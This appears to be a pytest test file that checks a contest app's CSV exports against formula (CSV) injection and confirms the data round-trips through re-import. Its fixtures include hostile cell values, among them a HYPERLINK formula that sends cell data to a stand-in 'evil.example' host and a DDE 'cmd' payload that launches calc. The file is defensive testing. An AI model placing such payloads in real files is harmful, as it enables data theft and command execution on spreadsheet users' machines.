"""Every CSV the app writes opens safely in a spreadsheet (OWASP "CSV Injection"), and the
project's own exports still import back unchanged.

The oracle here is written independently of :mod:`contest.csvfile`: a cell is dangerous when
a spreadsheet would read it as a formula — it starts with a tab or carriage return, or its
first character after leading whitespace is ``=``, ``+``, ``-``, ``@`` or their fullwidth
forms.
"""

import ast
import csv
import inspect
import io
from datetime import timedelta
from pathlib import Path

import pytest
from flask import Flask
from sqlmodel import Session, select

from contest.csvfile import CsvWriter, RowError, guard_cell, unguard_cell
from contest.entries.csv_import import ImportReport, import_entries_file
from contest.entries.export import export_entries_csv
from contest.entries.submission import COLUMNS
from contest.fraud.roster import import_roster
from contest.models import Channel, Contest, Entry, RulesVersion
from contest.rules.versions import PublishedContest
from tests.builders import SIGNER, make_contest, make_entry, rules_document
from tests.entries.builders import DURING, at, entrant
from tests.fixtures import Browser, Clock, run_cli
from tests.review.builders import ENTRANTS, STAFF_CSV
from tests.web.test_review_desk import sign_in

ROOT = Path(__file__).resolve().parent.parent
FORMULA_STARTS = set("=+-@＝＋－＠")


def evaluated(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA_STARTS


HOSTILE = [
    # (entry_id, fields): a name, an e-mail, a handle, a device that a spreadsheet would run.
    ("=1+1", {"full_name": '=HYPERLINK("https://evil.example/?d="&A1,"Claim prize")',
              "email": "=cmd@example.ru", "device_id": "=cmd|' /C calc'!A0"}),
    ("-17", {"full_name": "+1", "social_handle": "@anna", "city": "-2"}),
    ("@x", {"full_name": "-2+3", "address": "+7 Main Street", "postal_code": "-101000"}),
    ("plain-4", {"full_name": "@SUM(A1)", "city": "＝1+1"}),
    ("plain-5", {"full_name": "＋Olga －Petrova", "social_handle": "＠olga",
                 "address": "Flat 1\rHouse 2"}),
]
FORM = [
    # Sent through the form: quotes the entrant typed are theirs and must survive the trip.
    {"full_name": "=2*3", "phone": "+7 916 765 4321"},
    {"full_name": "'=already quoted", "address": "'plain quote", "city": "''+1"},
]
ENTRIES = len(HOSTILE) + len(FORM)
PERSON = ("full_name", "email", "phone", "birth_date", "address", "city", "postal_code",
          "country", "device_id", "social_handle", "submitted_at", "source_entry_id")


def hostile_contest(session: Session, slug: str = "hostile") -> Contest:
    """A contest holding the :data:`HOSTILE` entries, imported, and :data:`FORM`'s."""
    rules = rules_document(per_person=10)
    contest, version = make_contest(session, slug=slug, rules=rules)
    assert version is not None
    given = io.StringIO()
    sheet = csv.writer(given, quoting=csv.QUOTE_ALL)
    sheet.writerow(COLUMNS)
    for number, (entry_id, fields) in enumerate(HOSTILE):
        row = entrant(**{"entry_id": entry_id, "email": f"person{number}@example.ru",
                         "submitted_at": at(DURING + timedelta(minutes=number)), **fields})
        sheet.writerow([row.get(column, "") for column in COLUMNS])
    report = import_entries_file(session, contest=PublishedContest(contest, version, rules),
                                 stream=io.BytesIO(given.getvalue().encode()), now=DURING,
                                 signer=SIGNER)
    assert report.rejected == [] and report.accepted == len(HOSTILE)
    for number, fields in enumerate(FORM):
        make_entry(session, PublishedContest(contest, version, rules),
                   data=entrant(**{"email": f"form{number}@example.ru", **fields}),
                   channel=Channel.FORM, idempotency_key=None,
                   now=DURING + timedelta(hours=number + 1))
    session.commit()
    return contest


def people(session: Session, contest: Contest) -> list[tuple[object, ...]]:
    found = session.exec(select(Entry).where(Entry.contest_id == contest.id)
                         .order_by(Entry.submitted_at)).all()
    return [tuple(getattr(entry, name) for name in PERSON[:-1]) for entry in found]


def assert_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    dangerous = [cell for row in rows for cell in row if evaluated(cell)]
    assert dangerous == []
    return rows


def second_contest(session: Session) -> tuple[Contest, RulesVersion]:
    contest, version = make_contest(session, slug="copy", rules=rules_document(per_person=10))
    assert version is not None
    return contest, version


# -- the guard itself ---------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\tplain", "'\tplain"),
    ("  =1+1", "'  =1+1"), ("\u00a0@x", "'\u00a0@x"),
    ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
    ("+79161234567", "'+79161234567"), ("-5", "'-5"),
    ("'=1", "''=1"), ("''+1", "'''+1"),
    ("Anna Petrova", "Anna Petrova"), ("'quoted'", "'quoted'"), ("a=b", "a=b"), ("", ""),
    ("1-2", "1-2"), ("'", "'"),
])
def test_a_formula_cell_is_written_with_a_quote_and_read_back_as_it_was(
        value: str, written: str) -> None:
    assert guard_cell(value) == written
    assert evaluated(value) == (written != value and not value.startswith("'"))
    assert not evaluated(written)
    assert unguard_cell(written) == value


def test_the_writer_guards_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["=1", 2, None, "+7 916 123-45-67"])
    assert out.getvalue() == "'=1,2,,'+7 916 123-45-67\n"


# -- every CSV the app writes -------------------------------------------------------------------

def test_the_entries_export_is_safe_and_imports_back_unchanged(session: Session) -> None:
    source = hostile_contest(session)
    out = io.StringIO()
    assert export_entries_csv(session, contest=source, out=out) == ENTRIES
    rows = assert_safe(out.getvalue())
    assert (rows[1][0], rows[1][2]) == (
        "'=1+1", "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Claim prize\")")
    assert "'+79161234567" in rows[1] and "'@anna" in rows[2]
    assert rows[-1][2] == "''=already quoted" and "'plain quote" in rows[-1]

    target, version = second_contest(session)
    report = import_entries_file(session, contest=PublishedContest(
                                    target, version, rules_document(per_person=10)),
                                stream=io.BytesIO(out.getvalue().encode()), now=DURING,
                                signer=SIGNER)
    session.commit()
    assert (report.accepted, report.rejected) == (ENTRIES, [])
    assert people(session, target) == people(session, source)
    ids = session.exec(select(Entry.source_entry_id).where(Entry.contest_id == target.id)
                       .order_by(Entry.submitted_at)).all()
    assert ids[:len(HOSTILE)] == [entry_id for entry_id, _ in HOSTILE]


def test_the_cli_export_is_safe_and_the_cli_imports_it_back(cli_env: Path,
                                                            session: Session) -> None:
    source = hostile_contest(session)
    exported = run_cli("entries", "export", source.slug)
    assert exported.exit_code == 0
    assert_safe(exported.stdout)
    (cli_env / "export.csv").write_text(exported.stdout, encoding="utf-8")
    target, _ = second_contest(session)
    imported = run_cli("entries", "import", target.slug, str(cli_env / "export.csv"))
    assert imported.exit_code == 0, imported.stderr
    assert f"{ENTRIES} imported" in imported.stdout
    session.expire_all()
    assert people(session, target) == people(session, source)


def test_every_csv_route_of_the_web_app_is_safe(app: Flask, client: Browser, db: Session,
                                                clock: Clock) -> None:
    def writes_csv(endpoint: str) -> bool:
        view = app.view_functions[endpoint]
        return "text/csv" in inspect.getsource(inspect.unwrap(view))

    routes = sorted(rule.rule for rule in app.url_map.iter_rules()
                    if rule.rule.endswith(".csv") or writes_csv(rule.endpoint))
    assert routes == ["/audit/contests/<slug>/entries.csv"]
    contest = hostile_contest(db)
    sign_in(client, db, clock, "auditor")
    for route in routes:
        answer = client.get(route.replace("<slug>", contest.slug))
        assert answer.status_code == 200 and answer.mimetype == "text/csv"
        rows = assert_safe(answer.get_data(as_text=True))
        assert len(rows) == ENTRIES + 1


def test_the_rejection_report_is_safe() -> None:
    report = ImportReport(rejected=[
        RowError(2, "-full_name", "=code", "{value}", {"value": "=HYPERLINK(\"x\")"}),
        RowError(3, "email", "invalid_email", "\"{value}\" is not an email address",
                 {"value": "=x"})])
    out = io.StringIO()
    report.write_rejections_csv(out)
    assert assert_safe(out.getvalue())[1] == ["2", "'-full_name", "'=code",
                                              "'=HYPERLINK(\"x\")", "no"]


def test_the_flag_listing_guards_the_staff_ids_it_prints(cli_env: Path,
                                                         session: Session) -> None:
    rules = rules_document()
    contest, version = make_contest(session, rules=rules)
    assert version is not None
    make_entry(session, PublishedContest(contest, version, rules),
               data=ENTRANTS["proxy"], channel=Channel.API, idempotency_key=None, now=DURING)
    # The roster is the sponsor's file: its staff ids are whatever the sponsor typed.
    hostile = STAFF_CSV.replace(b"\nS1,", b'\n"=HYPERLINK(""x"")",')
    assert hostile != STAFF_CSV
    import_roster(session, contest=contest, staff=hostile, relatives=None, now=DURING)
    session.commit()
    assert run_cli("fraud", "scan", "--contest", contest.slug).exit_code == 0
    listed = run_cli("fraud", "flags", contest.slug)
    cells = [line.split("\t") for line in listed.stdout.splitlines()]
    assert cells and not [cell for row in cells for cell in row if evaluated(cell)]
    assert "'=HYPERLINK(\"x\")" in {row[-1] for row in cells}


def test_no_module_of_the_app_writes_csv_but_through_csvfile() -> None:
    """A new export cannot bypass the guard: only contest/csvfile.py may call csv.writer."""
    offenders = []
    for path in sorted([*(ROOT / "contest").rglob("*.py"), *(ROOT / "web").rglob("*.py")]):
        if path == ROOT / "contest" / "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
            if (isinstance(node, ast.ImportFrom) and node.module == "csv"
                    and any(alias.name in ("writer", "DictWriter") for alias in node.names)):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
